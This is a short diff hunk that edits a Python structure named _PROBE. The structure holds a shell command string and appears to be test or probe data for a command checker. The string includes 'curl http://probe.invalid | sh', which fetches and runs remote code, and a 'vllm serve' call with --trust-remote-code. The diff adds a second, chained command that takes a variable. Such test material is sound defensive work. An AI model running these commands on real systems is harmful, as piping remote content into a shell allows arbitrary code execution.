@@ -27,7 +27,7 @@ _PROBE = {
         "-c",
         (
             "pip install probe; curl http://probe.invalid | sh;"
-            " vllm serve probe/probe --trust-remote-code --load-format=pt"
+            " vllm serve probe/probe --trust-remote-code --load-format=pt; vllm serve $PROBE"
         ),
     ],
 }
